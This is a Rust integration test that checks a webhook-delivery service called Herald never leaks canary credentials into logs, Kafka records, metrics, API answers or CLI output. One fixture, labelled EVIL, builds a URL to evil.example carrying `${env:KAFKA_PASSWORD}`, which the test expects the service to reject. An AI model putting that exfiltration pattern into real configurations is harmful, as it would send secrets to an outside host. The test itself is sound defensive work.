//! Nothing secret leaks. Every destination runs with credentials that carry one recognisable
//! canary, some kept in the credential store and some referenced as `${env:HERALD_CRED_…}`:
//! delivering, failing for good (dead letters with their reasons), failing for a while (retry
//! records), timing out, and finding nothing listening. Then every log line of the process
//! (DEBUG and up, as text and as JSON), every record of every Herald topic (keys, values and
//! headers as raw bytes; `herald.credentials` and `herald.workspaces` included), a `/metrics`
//! scrape, the HTTP API's answers and the output of CLI commands run as real processes are
//! searched for the canary: as text, in hex, as a byte list, and in base64 wherever it sits.

mod common;

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex, OnceLock};

use base64::Engine;
use common::{Harness, Running};
use herald::credentials::{Keyring, RecordKey, write};
use herald::kafka;
use herald::model::records::DeliveryStatus;
use herald::model::{Secret, WorkspaceConfig};
use herald::settings::Settings;
use herald::settings::api::{AdminScope, AdminToken};
use herald::settings::interpolate::Vars;
use herald::workspace::table::WorkspaceEntry;
use rdkafka::Message;
use rdkafka::message::Headers;
use rdkafka::producer::FutureProducer;
use serde_json::json;
use tracing_subscriber::layer::SubscriberExt;
use tracing_subscriber::util::SubscriberInitExt;

/// Carried by every credential of this file, and by nothing else Herald is given.
const CANARY: &str = "cnry7q";
const ADMIN_TOKEN: &str = "adm_read_0123456789abcdefghijk";
const WRITE_TOKEN: &str = "adm_write_0123456789abcdefghijk";
/// The store's key, 32 bytes; its text must not leak either.
const STORE_KEY: [u8; 32] = *b"store-key-0123456789abcdefghijkl";

// ---------------------------------------------------------------------------------------------
// Capture

/// Every log line of this test binary, as text and as JSON, at DEBUG and up.
fn logs() -> Arc<Mutex<Vec<u8>>> {
    static LOGS: OnceLock<Arc<Mutex<Vec<u8>>>> = OnceLock::new();
    LOGS.get_or_init(|| {
        let buffer = Arc::new(Mutex::new(Vec::new()));
        let writer = Capture(buffer.clone());
        tracing_subscriber::registry()
            .with(tracing_subscriber::EnvFilter::new("debug"))
            .with(
                tracing_subscriber::fmt::layer()
                    .json()
                    .with_writer(writer.clone()),
            )
            .with(
                tracing_subscriber::fmt::layer()
                    .with_ansi(false)
                    .with_writer(writer),
            )
            .try_init()
            .expect("the only subscriber of this test binary");
        buffer
    })
    .clone()
}

fn captured_logs() -> String {
    String::from_utf8_lossy(&logs().lock().unwrap()).into_owned()
}

#[derive(Clone)]
struct Capture(Arc<Mutex<Vec<u8>>>);

impl Write for Capture {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl<'a> tracing_subscriber::fmt::MakeWriter<'a> for Capture {
    type Writer = Capture;

    fn make_writer(&'a self) -> Capture {
        self.clone()
    }
}

/// Every record of every topic Herald uses: key, value and headers, raw bytes shown as text.
fn dump_topics(settings: &Settings) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for topic in kafka::topic_plan(settings) {
        let reader: rdkafka::consumer::BaseConsumer =
            kafka::reader_config(settings).create().unwrap();
        let mut text = String::new();
        kafka::read_to_end(&reader, &topic.name, |m| {
            let mut bytes = m.key().unwrap_or_default().to_vec();
            bytes.push(b'\n');
            bytes.extend_from_slice(m.payload().unwrap_or_default());
            bytes.push(b'\n');
            if let Some(headers) = m.headers() {
                for h in headers.iter() {
                    bytes.extend_from_slice(h.key.as_bytes());
                    bytes.push(b'=');
                    bytes.extend_from_slice(h.value.unwrap_or_default());
                    bytes.push(b'\n');
                }
            }
            text.push_str(&String::from_utf8_lossy(&bytes));
            text.push_str("\n----\n");
        })
        .unwrap();
        out.push((topic.name, text));
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Detection

/// Every way a secret's bytes could show in text: as they are, in hex (either case), as the
/// byte list `Debug` prints, and in base64 of either alphabet wherever they sit in the encoded
/// input (a `Basic` header, a `whsec_` secret, a JSON value).
fn shown_forms(secret: &[u8]) -> Vec<String> {
    let mut forms = vec![
        String::from_utf8_lossy(secret).into_owned(),
        secret.iter().map(|b| format!("{b:02x}")).collect(),
        secret.iter().map(|b| format!("{b:02X}")).collect(),
        format!("{secret:?}").trim_matches(['[', ']']).to_owned(),
    ];
    // Base64 turns 3 bytes into 4 characters, so the secret encodes one of three ways depending
    // on its offset in the input; the characters that depend on its bytes alone are the same
    // whatever surrounds it.
    for engine in [
        base64::engine::general_purpose::STANDARD_NO_PAD,
        base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ] {
        for offset in 0..3 {
            let mut input = vec![0u8; offset];
            input.extend_from_slice(secret);
            let encoded = engine.encode(&input);
            let first = (offset * 8).div_ceil(6);
            let last = (input.len() * 8) / 6;
            forms.push(encoded[first..last].to_owned());
        }
    }
    forms.retain(|f| !f.is_empty());
    forms
}

/// Where `text` shows the canary or the store's key, in any of their forms.
fn leaks(text: &str) -> Vec<String> {
    let forms: Vec<String> = [CANARY.as_bytes(), &STORE_KEY[..]]
        .into_iter()
        .flat_map(shown_forms)
        .chain([base64::engine::general_purpose::STANDARD.encode(STORE_KEY)])
        .collect();
    text.lines()
        .filter(|line| forms.iter().any(|f| line.contains(f.as_str())))
        .map(|line| line.chars().take(400).collect())
        .collect()
}

fn assert_no_leak(what: &str, text: &str) {
    let found = leaks(text);
    assert!(found.is_empty(), "{what} leaks a secret: {found:#?}");
}

#[test]
fn the_detector_finds_the_canary_plain_and_encoded() {
    let b64 = base64::engine::general_purpose::STANDARD;
    let key = b64.encode(STORE_KEY);
    let hex: String = format!("x{CANARY}y")
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    for shown in [
        format!("token=pat-{CANARY}-1"),
        format!(
            "authorization: Basic {}",
            b64.encode(format!("any:{CANARY}-us6"))
        ),
        format!(
            "secret: whsec_{}",
            b64.encode(format!("ab{CANARY}-signing"))
        ),
        format!("sig {hex} end"),
        format!("key={key}"),
    ] {
        assert!(!leaks(&shown).is_empty(), "not found in {shown}");
    }
    assert!(leaks("delivered evt_1 to hubspot (HTTP 200) whsec_aGVyYWxk").is_empty());
}

// ---------------------------------------------------------------------------------------------
// The run

fn canary(name: &str) -> String {
    format!("{CANARY}-{name}")
}

/// A `whsec_` secret whose key bytes carry the canary.
fn webhook_secret() -> String {
    format!(
        "whsec_{}",
        base64::engine::general_purpose::STANDARD.encode(canary("webhook-signing-key"))
    )
}

fn store_keys(dir: &Path) -> Keyring {
    std::fs::write(
        dir.join("a"),
        base64::engine::general_purpose::STANDARD.encode(STORE_KEY),
    )
    .unwrap();
    Keyring::from_sources(None, None, Some(dir), "").unwrap()
}

async fn store(
    h: &Harness,
    keys: &Keyring,
    workspace: &str,
    connection: &str,
    field: &str,
    value: &str,
) {
    let producer: FutureProducer = kafka::producer_config(&h.settings).create().unwrap();
    let record = RecordKey::new(workspace, connection).unwrap();
    let fields = [(field.to_owned(), Secret::new(value))].into();
    write::put(&h.settings, &producer, keys, &record, &fields)
        .await
        .expect("stored");
}

/// The `${env:HERALD_CRED_CNRY_…}` values the processor is given.
fn canary_vars(h: &Harness) -> Vars {
    h.vars()
        .with(
            "HERALD_CRED_CNRY_MAILCHIMP",
            format!("{CANARY}mailchimp-us6"),
        )
        .with(
            "HERALD_CRED_CNRY_SLACK_TOKEN",
            format!("xoxb-{}", canary("slack-bot")),
        )
        .with("HERALD_CRED_CNRY_INTERCOM", canary("intercom"))
        .with("HERALD_CRED_CNRY_WEBHOOK", webhook_secret())
        .with(
            "HERALD_CRED_CNRY_BAD_INTERCOM",
            format!("bad-{}", canary("intercom")),
        )
        .with(
            "HERALD_CRED_CNRY_BAD_SLACK",
            format!("xoxp-{}", canary("user-token")),
        )
        .with("HERALD_CRED_CNRY_AC_DOWN", canary("activecampaign-down"))
        .with(
            "HERALD_CRED_CNRY_BAD_URL",
            format!("not a url {}", canary("bad-url")),
        )
        .with("KAFKA_PASSWORD", canary("kafka-password"))
}

/// Every connection delivering; the credentials of `crm`, `alerts-hook`, `automation` and
/// `backend` are in the store.
const DELIVERING: &str = r##"
workspace: ws_cnr_ok
connections:
  - id: crm
    type: hubspot
    base_url: "http://127.0.0.1:7780/hubspot"
  - id: newsletter
    type: mailchimp
    audience_id: students
    base_url: "http://127.0.0.1:7780/mailchimp"
    credentials: { api_key: "${env:HERALD_CRED_CNRY_MAILCHIMP}" }
  - id: alerts-hook
    type: slack
  - id: alerts-bot
    type: slack
    channel: "#alerts"
    base_url: "http://127.0.0.1:7780/slack/api"
    credentials: { token: "${env:HERALD_CRED_CNRY_SLACK_TOKEN}" }
  - id: automation
    type: activecampaign
    base_url: "http://127.0.0.1:7780/activecampaign"
  - id: support
    type: intercom
    base_url: "http://127.0.0.1:7780/intercom"
    credentials: { token: "${env:HERALD_CRED_CNRY_INTERCOM}" }
  - id: backend
    type: webhook
    url: "SIGNING/webhook/backend"
rules:
  - { id: to-crm, event: signup, connection: crm, action: upsert_contact, with: { email: "{{ payload.email }}" } }
  - { id: to-newsletter, event: signup, connection: newsletter, action: add_tags, with: { email: "{{ payload.email }}", tags: [new] } }
  - { id: to-alerts-hook, event: signup, connection: alerts-hook, action: post_message, with: { text: "signup {{ payload.email }}" } }
  - { id: to-alerts-bot, event: signup, connection: alerts-bot, action: post_message, with: { text: "signup {{ payload.email }}" } }
  - { id: to-automation, event: signup, connection: automation, action: add_tag, with: { email: "{{ payload.email }}", tag: new } }
  - { id: to-support, event: signup, connection: support, action: tag_contact, with: { email: "{{ payload.email }}", tag: new } }
  - { id: to-backend, event: signup, connection: backend, action: post }
"##;

/// Every way a delivery fails. Stored: `crm-noscopes`, `crm`, `newsletter-revoked`,
/// `retrying`, `dead-slack`, `stored-bad-url` (not a URL); the rest from the environment.
const FAILING: &str = r##"
workspace: ws_cnr_fail
connections:
  - id: crm-noscopes
    type: hubspot
    base_url: "http://127.0.0.1:7780/hubspot"
  - id: crm
    type: hubspot
    base_url: "http://127.0.0.1:7780/hubspot"
  - id: newsletter-revoked
    type: mailchimp
    audience_id: students
    base_url: "http://127.0.0.1:7780/mailchimp"
  - id: support-bad
    type: intercom
    base_url: "http://127.0.0.1:7780/intercom"
    credentials: { token: "${env:HERALD_CRED_CNRY_BAD_INTERCOM}" }
  - id: bot-bad
    type: slack
    channel: "#alerts"
    base_url: "http://127.0.0.1:7780/slack/api"
    credentials: { token: "${env:HERALD_CRED_CNRY_BAD_SLACK}" }
  - id: retrying
    type: webhook
    url: "SIGNING/webhook/down?status=503"
  - id: slow
    type: webhook
    url: "SIGNING/webhook/slow?delay_ms=3000"
    timeout_ms: 200
    credentials: { secret: "${env:HERALD_CRED_CNRY_WEBHOOK}" }
  - id: dead-slack
    type: slack
  - id: nothing-there
    type: activecampaign
    base_url: "http://127.0.0.1:1"
    credentials: { api_token: "${env:HERALD_CRED_CNRY_AC_DOWN}" }
  - id: stored-bad-url
    type: slack
rules:
  - { id: noscopes, event: signup, connection: crm-noscopes, action: upsert_contact, with: { email: "{{ payload.email }}" } }
  - { id: bad-email, event: signup, connection: crm, action: upsert_contact, with: { email: "not-an-email" } }
  - { id: revoked, event: signup, connection: newsletter-revoked, action: add_tags, with: { email: "{{ payload.email }}", tags: [new] } }
  - { id: support-bad, event: signup, connection: support-bad, action: tag_contact, with: { email: "{{ payload.email }}", tag: new } }
  - { id: bot-bad, event: signup, connection: bot-bad, action: post_message, with: { text: "hi" } }
  - { id: retrying, event: signup, connection: retrying, action: post }
  - { id: slow, event: signup, connection: slow, action: post }
  - { id: dead-slack, event: signup, connection: dead-slack, action: post_message, with: { text: "hi" } }
  - { id: nothing-there, event: signup, connection: nothing-there, action: add_tag, with: { email: "{{ payload.email }}", tag: new } }
  - { id: stored-bad-url, event: signup, connection: stored-bad-url, action: post_message, with: { text: "hi" } }
"##;

/// Rejected by the processor: the Slack URL its reference resolves to is not a URL.
const REJECTED: &str = r##"
workspace: ws_cnr_rejected
connections:
  - id: hook
    type: slack
    credentials: { webhook_url: "${env:HERALD_CRED_CNRY_BAD_URL}" }
rules:
  - { id: r, event: signup, connection: hook, action: post_message, with: { text: "hi" } }
"##;

/// A workspace author reaching for the processor's own secret.
const EVIL: &str = r##"
workspace: ws_cnr_evil
connections:
  - id: hook
    type: webhook
    url: "https://evil.example/?k=${env:KAFKA_PASSWORD}"
    credentials: { secret: "${env:HERALD_CRED_CNRY_WEBHOOK}" }
rules:
  - { id: r, event: signup, connection: hook, action: post }
"##;

/// The workspace as written, pointed at the sandboxes.
fn workspace(text: &str, h: &Harness, signing_url: &str) -> String {
    herald::cli::dev::at_sandbox(text, &h.sandbox_url).replace("SIGNING", signing_url)
}

/// Publishes `text` as it is, the way a processor sees a workspace whatever checked it.
async fn publish_unchecked(h: &Harness, text: &str) {
    let config = WorkspaceConfig::parse(text).expect("parses");
    herald::cli::workspace::publish(&h.settings, &[config])
        .await
        .expect("published");
}

/// A sandbox that verifies webhook signatures with the canary secret.
async fn signing_sandbox() -> (herald_sandbox::Sandbox, String) {
    let sandbox = herald_sandbox::Sandbox::new(Some(&webhook_secret())).expect("sandbox");
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let router = sandbox.router();
    tokio::spawn(async move { axum::serve(listener, router).await });
    (sandbox, url)
}

fn herald_cli(h: &Harness) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_herald"));
    c.env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HERALD__KAFKA__BROKERS", &h.settings.kafka.brokers)
        .env("RUST_LOG", "herald=debug,info");
    c
}

/// Runs `command` with `stdin`, returning its output.
fn run(mut command: Command, stdin: &str) -> Output {
    let mut child = command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

/// A command run as a real process: what it tries, its arguments, environment and standard
/// input, and what its output must say (empty: it succeeds).
type CliCase = (
    &'static str,
    Vec<String>,
    Vec<(&'static str, String)>,
    String,
    &'static str,
);

fn shown(out: &Output) -> String {
    format!(
        "exit {:?}\nstdout:\n{}\nstderr:\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_canary_reaches_logs_history_dead_letters_metrics_api_or_cli_output() {
    let logs = logs();
    let keys_dir = tempfile::tempdir().unwrap();
    let h = Harness::new_with(|s| {
        s.credentials.keys_dir = keys_dir.path().display().to_string();
        s.api.admin_tokens = vec![
            AdminToken {
                name: "dashboard".into(),
                token: Secret::new(ADMIN_TOKEN),
                scope: AdminScope::Read,
            },
            AdminToken {
                name: "operator".into(),
                token: Secret::new(WRITE_TOKEN),
                scope: AdminScope::Write,
            },
        ];
    })
    .await;
    let keys = store_keys(keys_dir.path());
    let (signing, signing_url) = signing_sandbox().await;
    let vars = canary_vars(&h);
    for (ws, connection, field, value) in [
        (
            "ws_cnr_ok",
            "crm",
            "token",
            format!("pat-{}", canary("hubspot")),
        ),
        (
            "ws_cnr_ok",
            "alerts-hook",
            "webhook_url",
            format!(
                "{}/slack/services/T0/B0/{}",
                h.sandbox_url,
                canary("slack-hook")
            ),
        ),
        (
            "ws_cnr_ok",
            "automation",
            "api_token",
            canary("activecampaign"),
        ),
        ("ws_cnr_ok", "backend", "secret", webhook_secret()),
        (
            "ws_cnr_fail",
            "crm-noscopes",
            "token",
            format!("pat-noscopes-{}", canary("hubspot")),
        ),
        (
            "ws_cnr_fail",
            "crm",
            "token",
            format!("pat-{}", canary("hubspot-2")),
        ),
        (
            "ws_cnr_fail",
            "newsletter-revoked",
            "api_key",
            format!("invalid{CANARY}-us6"),
        ),
        ("ws_cnr_fail", "retrying", "secret", webhook_secret()),
        (
            "ws_cnr_fail",
            "stored-bad-url",
            "webhook_url",
            format!("not a url {}", canary("stored-url")),
        ),
        (
            "ws_cnr_fail",
            "dead-slack",
            "webhook_url",
            format!(
                "http://127.0.0.1:1/services/T0/B0/{}?token={CANARY}",
                canary("dead-hook")
            ),
        ),
    ] {
        store(&h, &keys, ws, connection, field, &value).await;
    }
    // Through `herald workspace apply`'s checks, with the processor's references.
    for text in [DELIVERING, FAILING] {
        let text = workspace(text, &h, &signing_url);
        let configs =
            herald::cli::workspace::validate_files(&h.settings, &[("ws.yaml".into(), text)], &vars)
                .expect("valid");
        herald::cli::workspace::publish(&h.settings, &configs)
            .await
            .expect("published");
    }
    publish_unchecked(&h, REJECTED).await;
    publish_unchecked(&h, EVIL).await;

    let running = Running::start(h.settings.clone(), vars);
    let email = |i: usize| format!("user{i}@example.com");
    for (i, ws) in ["ws_cnr_ok", "ws_cnr_fail", "ws_cnr_rejected", "ws_cnr_evil"]
        .iter()
        .enumerate()
    {
        h.emit(
            ws,
            "signup",
            &format!("evt_{i}"),
            None,
            json!({"email": email(i)}),
        )
        .await;
    }
    let delivered = h
        .wait_for_history("ws_cnr_ok", "seven deliveries", |r| {
            r.iter()
                .filter(|d| d.status == DeliveryStatus::Delivered)
                .count()
                == 7
        })
        .await;
    assert_eq!(delivered.len(), 7, "{delivered:#?}");
    let failed = h
        .wait_for_history("ws_cnr_fail", "ten final failures", |r| {
            r.len() == 10
                && r.iter()
                    .all(|d| matches!(d.status, DeliveryStatus::Dead | DeliveryStatus::Failed))
        })
        .await;
    let reason = |rule: &str| {
        failed
            .iter()
            .find(|d| d.rule_id.as_deref() == Some(rule))
            .and_then(|d| d.reason.clone())
            .unwrap_or_default()
    };
    assert!(reason("slow").contains("timed out"), "{failed:#?}");
    assert!(
        reason("dead-slack").contains("could not connect"),
        "{failed:#?}"
    );
    assert!(
        reason("nothing-there").contains("could not connect"),
        "{failed:#?}"
    );
    assert!(reason("retrying").contains("HTTP 503"), "{failed:#?}");
    assert!(
        reason("stored-bad-url").contains("credentials.webhook_url"),
        "{failed:#?}"
    );
    let dead = failed
        .iter()
        .filter(|d| d.status == DeliveryStatus::Dead)
        .count();
    assert!(dead >= 7, "{failed:#?}");
    let letters = h.wait_for_dead_letters(dead).await;

    // The canaries did reach the destinations: the search below looks for what was sent.
    let sent = serde_json::to_string(&h.sandbox.requests()).unwrap();
    assert!(!leaks(&sent).is_empty(), "the sandbox saw no canary");
    let backend = signing.requests();
    assert!(
        backend
            .iter()
            .any(|r| r.path == "/webhook/backend" && r.signature_valid == Some(true)),
        "signed with the stored secret"
    );

    // The processor refused the workspaces it could not use, naming the field.
    let table = &running.app.health.table;
    let Some(WorkspaceEntry::Invalid(rejected)) = table.get("ws_cnr_rejected") else {
        panic!(
            "ws_cnr_rejected is used: {:?}",
            table.get("ws_cnr_rejected")
        );
    };
    assert!(rejected.contains("credentials.webhook_url"), "{rejected}");
    let Some(WorkspaceEntry::Invalid(evil)) = table.get("ws_cnr_evil") else {
        panic!("ws_cnr_evil is used: {:?}", table.get("ws_cnr_evil"));
    };
    assert!(
        evil.contains("connections[0].url") && evil.contains("allowed only in `credentials`"),
        "{evil}"
    );

    // The HTTP API and the metrics.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let routes = running.app.http_routes();
    tokio::spawn(async move { axum::serve(listener, routes).await });
    let web = reqwest::Client::new();
    let mut answers = String::new();
    for (path, token) in [
        ("/metrics", None),
        ("/readyz", None),
        ("/v1/workspaces", Some(ADMIN_TOKEN)),
        ("/v1/workspaces/ws_cnr_ok", Some(ADMIN_TOKEN)),
        ("/v1/workspaces/ws_cnr_rejected", Some(ADMIN_TOKEN)),
        ("/v1/workspaces/ws_cnr_missing", Some(ADMIN_TOKEN)),
        ("/v1/workspaces", Some("adm_wrong_0123456789abcdefghijk")),
        ("/v1/nothing", None),
    ] {
        let mut request = web.get(format!("{base}{path}"));
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        let response = request.send().await.unwrap();
        answers.push_str(&format!("{path}: {}\n", response.status()));
        answers.push_str(&response.text().await.unwrap());
        answers.push('\n');
    }
    // Test events, sent: every destination's answers, failing ones included.
    for ws in ["ws_cnr_ok", "ws_cnr_fail"] {
        let response = web
            .post(format!("{base}/v1/workspaces/{ws}/test-event?send=true"))
            .bearer_auth(WRITE_TOKEN)
            .json(&serde_json::json!({"event": "signup", "payload": {"email": "t@example.com"}}))
            .send()
            .await
            .unwrap();
        answers.push_str(&format!("test event in {ws}: {}\n", response.status()));
        answers.push_str(&response.text().await.unwrap());
        answers.push('\n');
    }
    assert!(answers.contains("\"responses\""), "{answers}");
    let response = web
        .post(format!("{base}/v1/events"))
        .bearer_auth("pk_nobody")
        .body("{not json")
        .send()
        .await
        .unwrap();
    answers.push_str(&response.text().await.unwrap());
    assert!(answers.contains("herald_deliveries_total"), "{answers}");
    assert!(answers.contains("ws_cnr_ok"), "{answers}");
    assert_no_leak("the HTTP API", &answers);
    assert_no_leak("the metrics", &running.app.metrics.render());

    // The CLI, as real processes.
    let mut outputs = Vec::new();
    for args in [
        vec!["history", "--workspace", "ws_cnr_fail"],
        vec!["history", "--workspace", "ws_cnr_fail", "--json"],
        vec!["history", "--workspace", "ws_cnr_ok", "--json"],
        vec!["redrive", "--workspace", "ws_cnr_fail", "--dry-run"],
    ] {
        let out = run(
            {
                let mut c = herald_cli(&h);
                c.args(&args);
                c
            },
            "",
        );
        assert!(out.status.success(), "{args:?}: {}", shown(&out));
        outputs.push((args.join(" "), out));
    }
    assert!(
        String::from_utf8_lossy(&outputs[0].1.stdout).contains("retrying"),
        "{}",
        shown(&outputs[0].1)
    );
    let dir = tempfile::tempdir().unwrap();
    let bad_url = dir.path().join("bad-url.yaml");
    std::fs::write(&bad_url, REJECTED).unwrap();
    let literal = dir.path().join("literal.yaml");
    std::fs::write(
        &literal,
        format!(
            "workspace: ws_cnr_literal\nconnections:\n  - {{ id: bot, type: slack, channel: c, \
             credentials: {{ token: xoxb-{} }} }}\n",
            canary("literal")
        ),
    )
    .unwrap();
    let key_env = format!(
        "a:{}",
        base64::engine::general_purpose::STANDARD.encode(STORE_KEY)
    );
    let kafka_config = dir.path().join("herald.toml");
    std::fs::write(
        &kafka_config,
        "[kafka.client]\n\"security.protocol\" = \"${env:HERALD_KAFKA_PROTOCOL}\"\n",
    )
    .unwrap();
    let set = |connection: &str, kind: &str| -> Vec<String> {
        [
            "credentials",
            "set",
            "--workspace",
            "ws",
            "--connection",
            connection,
            "--type",
            kind,
        ]
        .map(String::from)
        .to_vec()
    };
    let apply = |extra: &[&str], file: &Path| -> Vec<String> {
        let mut args: Vec<String> = ["workspace", "apply"].map(String::from).to_vec();
        args.extend(extra.iter().map(|a| a.to_string()));
        args.push(file.display().to_string());
        args
    };
    let with_key = vec![("HERALD_SECRETS_KEYS", key_env.clone())];
    let cases: Vec<CliCase> = vec![
        (
            "apply: a reference resolving to a bad URL",
            apply(&[], &bad_url),
            vec![(
                "HERALD_CRED_CNRY_BAD_URL",
                format!("not a url {}", canary("bad-url")),
            )],
            String::new(),
            "credentials.webhook_url",
        ),
        (
            "apply: a literal credential",
            apply(&[], &literal),
            vec![],
            String::new(),
            "credentials.token: a literal credential",
        ),
        (
            "apply: a literal credential moved into the store",
            apply(&["--store-credentials"], &literal),
            with_key.clone(),
            String::new(),
            "",
        ),
        (
            "credentials set: a wrong field",
            set("crm", "hubspot"),
            with_key.clone(),
            format!(r#"{{"tokn": "pat-{}"}}"#, canary("cli")),
            "credentials.tokn",
        ),
        (
            "credentials set: a field of the wrong type",
            set("hook", "slack"),
            with_key.clone(),
            format!(r#"{{"webhook_url": ["{}"]}}"#, canary("cli-url")),
            "credentials.webhook_url: must be a string",
        ),
        (
            "credentials set: not an object",
            set("crm", "hubspot"),
            with_key.clone(),
            format!("pat-{}: [", canary("yaml")),
            "not a JSON or YAML object",
        ),
        (
            "config: a Kafka client setting whose reference resolves to a bad value",
            vec![
                "--config".into(),
                kafka_config.display().to_string(),
                "topics".into(),
                "create".into(),
            ],
            vec![("HERALD_KAFKA_PROTOCOL", canary("protocol"))],
            String::new(),
            "security.protocol",
        ),
    ];
    for (what, args, env, stdin, says) in cases {
        let mut c = herald_cli(&h);
        c.args(&args).envs(env);
        let out = run(c, &stdin);
        let text = shown(&out);
        assert_eq!(out.status.success(), says.is_empty(), "{what}: {text}");
        assert!(text.contains(says), "{what}: {text}");
        outputs.push((what.to_owned(), out));
    }
    for (what, out) in &outputs {
        assert_no_leak(what, &shown(out));
    }

    // Every record Herald wrote, and the workspaces and credentials as stored.
    let settings = h.settings.clone();
    let topics = tokio::task::spawn_blocking(move || dump_topics(&settings))
        .await
        .unwrap();
    for (topic, text) in &topics {
        assert!(
            !text.is_empty() || topic.contains("retry"),
            "{topic} is empty"
        );
        assert_no_leak(topic, text);
    }
    for letter in &letters {
        let shown = format!("{letter:?} {}", String::from_utf8_lossy(&letter.value));
        assert!(letter.headers.values().any(|v| !v.is_empty()), "{shown}");
        assert_no_leak("a dead letter", &shown);
    }
    running.stop().await;

    // Every log line, last: it holds what everything above made the process say.
    let text = captured_logs();
    assert!(text.contains("\"level\":\"DEBUG\""), "JSON lines captured");
    assert!(text.contains(" DEBUG "), "text lines captured");
    assert!(
        text.contains("workspace config rejected"),
        "the rejections are logged"
    );
    drop(logs);
    assert_no_leak("the log", &text);
}
